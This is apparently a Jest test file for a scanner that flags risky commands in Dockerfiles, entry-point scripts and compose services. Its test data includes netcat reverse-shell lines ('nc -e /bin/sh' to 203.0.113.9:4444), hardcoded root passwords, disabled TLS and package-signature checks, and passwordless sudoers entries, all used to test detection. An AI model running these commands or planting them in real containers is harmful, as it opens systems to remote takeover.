import { describe, expect, it } from '@jest/globals';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';

const TOLD =
  /^(?:obfuscated-exec|command-hidden-code|insecure-daemon-flag|password-set-in-image|package-signature-disabled|tls-verify-disabled|sudoers-nopasswd|command-secret)$/;

/** What rules report about the commands that start with a container, with the line. */
async function told(files: Files): Promise<readonly string[]> {
  const { findings } = await scanFiles(files);
  return findings
    .filter(({ ruleId }) => TOLD.test(ruleId))
    .map(
      ({ ruleId, span: { file, start } }) => `${ruleId} ${file.path}:${file.text.slice(0, start).split('\n').length}`,
    );
}

const PASSWORD = 'blue-Kettle-71';
const entry = (command: string): Files => ({
  Dockerfile: 'FROM debian:13-slim\nCOPY start.sh /start.sh\nUSER 1000\nENTRYPOINT ["/start.sh"]\n',
  'start.sh': `#!/bin/sh\n${command}\nexec app\n`,
});
const service = (command: string): Files => ({
  'compose.yaml': `services:\n  app:\n    image: debian:13-slim\n    command: ["sh", "-c", ${JSON.stringify(command)}]\n`,
});

describe('dangers of RUN in what starts with a container', () => {
  it.each([
    [`echo "root:${PASSWORD}" | chpasswd`, 'password-set-in-image'],
    [`useradd -p '$6$aaaaaaaa$bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb' app`, 'password-set-in-image'],
    ['echo "deb [trusted=yes] http://203.0.113.9/d ./" > /etc/apt/sources.list.d/x.list', 'package-signature-disabled'],
    ['echo insecure >> /root/.curlrc', 'tls-verify-disabled'],
    ['echo "app ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/app', 'sudoers-nopasswd'],
  ])('are reported in an entry point: %s', async (command, rule) => {
    expect(await told(entry(command))).toEqual([`${rule} start.sh:2`]);
  });

  it('are reported in CMD', async () => {
    const dockerfile = `FROM debian:13-slim\nUSER 1000\nCMD echo "root:${PASSWORD}" | chpasswd && app\n`;
    expect(await told({ Dockerfile: dockerfile })).toEqual(['password-set-in-image Dockerfile:3']);
  });

  it.each([
    'echo "root:$ROOT_PASSWORD" | chpasswd',
    'chpasswd < /run/secrets/users',
    'echo "deb [signed-by=/k.gpg] https://apt.example.com stable main" > /etc/apt/sources.list.d/x.list',
    'echo "deb [trusted=yes] file:/srv ./" > /etc/apt/sources.list.d/x.list',
    'echo silent >> /root/.curlrc',
    'echo "app ALL=(www-data) /usr/bin/id" > /etc/sudoers.d/app',
    'echo "# app ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/app',
  ])('are not in an entry point: %s', async (command) => expect(await told(entry(command))).toEqual([]));

  it('report a password in the command of a service', async () => {
    expect(await told(service(`echo root:${PASSWORD} | chpasswd && app`))).toEqual(['command-secret compose.yaml:4']);
  });

  it.each([
    'echo "root:$$ROOT_PASSWORD" | chpasswd && app',
    'chpasswd < /run/secrets/users && app',
    'passwd -l root && app',
  ])('report no password in the command of a service: %s', async (command) =>
    expect(await told(service(command))).toEqual([]),
  );
});

const ADDRESS = 'https://files.example.com/t.tgz';
const PARTS = 'FROM debian:13-slim\nUSER 1000\n';

describe('an ENTRYPOINT and its CMD', () => {
  it.each([
    ['options of a program', `ENTRYPOINT ["curl"]\nCMD ["-k", "-o", "t", "${ADDRESS}"]`, 'tls-verify-disabled 4'],
    ['an option after an operand', `ENTRYPOINT ["curl"]\nCMD ["${ADDRESS}", "-k"]`, 'tls-verify-disabled 4'],
    [
      'an operand of git',
      `ENTRYPOINT ["git"]\nCMD ["clone", "-c", "http.sslVerify=false", "${ADDRESS}"]`,
      'tls-verify-disabled 4',
    ],
    ['a wrapper', `ENTRYPOINT ["tini", "--", "curl"]\nCMD ["-k", "${ADDRESS}"]`, 'tls-verify-disabled 4'],
    ['the other order', `CMD ["-k", "${ADDRESS}"]\nENTRYPOINT ["curl"]`, 'tls-verify-disabled 3'],
    [
      'an option of ENTRYPOINT, reported once',
      `ENTRYPOINT ["curl", "-k"]\nCMD ["${ADDRESS}"]`,
      'tls-verify-disabled 3',
    ],
    ['an open shell', 'ENTRYPOINT ["nc"]\nCMD ["-e", "/bin/sh", "203.0.113.9", "4444"]', 'obfuscated-exec 3'],
    ['another stage', `ENTRYPOINT ["wget"]\nFROM debian:13-slim\nUSER 1000`, undefined],
    ['a program that checks', `ENTRYPOINT ["curl"]\nCMD ["-fsSL", "${ADDRESS}"]`, undefined],
    ['a program that connects', 'ENTRYPOINT ["nc"]\nCMD ["-z", "db", "5432"]', undefined],
    ['an unknown program', `ENTRYPOINT ["acme"]\nCMD ["-k", "${ADDRESS}"]`, undefined],
  ])('are one command: %s', async (_name, instructions, expected) => {
    const found = await told({ Dockerfile: `${PARTS}${instructions}\n` });
    expect(found).toEqual(expected === undefined ? [] : [expected.replace(' ', ' Dockerfile:')]);
  });

  it('are one command of a stage that is built on another one', async () => {
    const dockerfile = `FROM debian:13-slim AS base\nENTRYPOINT ["curl"]\nFROM base\nUSER 1000\nCMD ["-k", "${ADDRESS}"]\n`;
    expect(await told({ Dockerfile: dockerfile })).toEqual(['tls-verify-disabled Dockerfile:5']);
  });

  it.each([
    ['-k', ['tls-verify-disabled start.sh:2']],
    ['-f', []],
  ])('are one command of an entry point: %s', async (option, expected) => {
    const files = entry(`curl "$@" -o t ${ADDRESS}`);
    const dockerfile = `${files['Dockerfile']}CMD ["${option}"]\n`;
    expect(await told({ ...files, Dockerfile: dockerfile })).toEqual(expected);
  });

  it.each([
    ['nc', '-e /bin/sh 203.0.113.9 4444', ['command-hidden-code compose.yaml:4']],
    ['nc', '-z db 5432', []],
    ['redis-server', '--protected-mode no', ['insecure-daemon-flag compose.yaml:4']],
  ])('are one command in a service: %s %s', async (program, command, expected) => {
    const files = {
      Dockerfile: `${PARTS}ENTRYPOINT ["${program}"]\n`,
      'compose.yaml': `services:\n  app:\n    build: .\n    command: ${command}\n`,
    };
    expect(await told(files)).toEqual(expected);
  });

  it('are one command of a service itself, reported once where it is written', async () => {
    const lines = ['image: debian:13-slim', 'entrypoint: [nc, -e, /bin/sh]', 'command: ["203.0.113.9", "4444"]'];
    const files = { 'compose.yaml': `services:\n  app:\n${lines.map((line) => `    ${line}\n`).join('')}` };
    expect(await told(files)).toEqual(['command-hidden-code compose.yaml:4']);
  });
});
